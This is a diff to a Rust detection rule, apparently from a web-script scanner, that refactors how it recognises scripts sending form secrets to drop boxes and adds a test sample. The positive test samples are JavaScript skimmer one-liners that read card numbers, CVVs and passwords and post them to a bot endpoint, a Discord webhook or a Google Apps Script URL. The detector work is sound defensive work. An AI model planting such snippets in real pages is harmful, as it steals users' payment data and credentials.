@@ -1,7 +1,7 @@
 //! `secret-to-drop-box`.
 
 use crate::facts::Atom;
-use crate::signals::answered::reads_answer;
+use crate::signals::answered::is_answer_read;
 use crate::signals::near::Near;
 use crate::signals::{Evidence, Held, Signal, one};
 use crate::{ClassSet, Severity};
@@ -21,6 +21,7 @@ pub(super) const SIGNAL: Signal = Signal {
             "const d=Object.fromEntries(new FormData(f));const m=`Card: ${d.cardNumber} ${d.cvv}`;fetch(`https://c.example/bot${t}/sendMessage`,{method:'POST',body:JSON.stringify({chat_id:i,text:m})})",
             "const q=new URLSearchParams({mail:u.value,pass:document.getElementById('password').value});fetch(`https://script.google.com/macros/s/a/exec?${q}`)",
             "x=new XMLHttpRequest;x.open('POST','https://discord.com/api/webhooks/1/a');x.send(JSON.stringify({content:'Password: '+document.forms[0].password.value}))",
+            "const d='https://script.google.com/macros/s/a/exec';fetch('/menu').then(r=>r.json()).then(draw);fetch(d,{method:'POST',body:JSON.stringify({u:m.value,p:document.getElementById('password').value})});$.get('/news',n=>{show(n)})",
         ],
         without: &[
             "fetch('https://formspree.io/f/abc',{method:'POST',body:new FormData(form)})",
@@ -33,9 +34,14 @@ pub(super) const SIGNAL: Signal = Signal {
     },
 };
 
-/// Whether it is a bot, a webhook or a service for forms, or nobody reads an answer. Small sites and lessons keep their accounts in a
-/// table that answers.
-pub(super) fn is_dropped(evidence: &Evidence<'_>, held: Held) -> bool {
+/// Whether it is a bot, a webhook or a service for forms, or nobody reads the answer of the request. Small sites and lessons keep their
+/// accounts in a table that answers.
+fn is_dropped(evidence: &Evidence<'_>, held: Held) -> bool {
+    has_other_than_tables(evidence) || !is_answer_read(Near::new(evidence, held, 0), held.last as usize)
+}
+
+/// Whether the script has a box that is no table, or none that is known by its address.
+pub(super) fn has_other_than_tables(evidence: &Evidence<'_>) -> bool {
     let stream = evidence.stream;
     let boxes = evidence.facts.iter().filter(|fact| matches!(fact.atom, Atom::DropBox | Atom::BotCall));
     let is_table = |at: u32| {
@@ -43,7 +49,7 @@ pub(super) fn is_dropped(evidence: &Evidence<'_>, held: Held) -> bool {
         TABLES.iter().any(|table| text.contains(table))
     };
     let mut known = boxes.take(MANY).map(|fact| is_table(fact.at)).peekable();
-    known.peek().is_none() || known.any(|table| !table) || !reads_answer(Near::new(evidence, held, 80))
+    known.peek().is_none() || known.any(|table| !table)
 }
 
 /// Tables on the web.
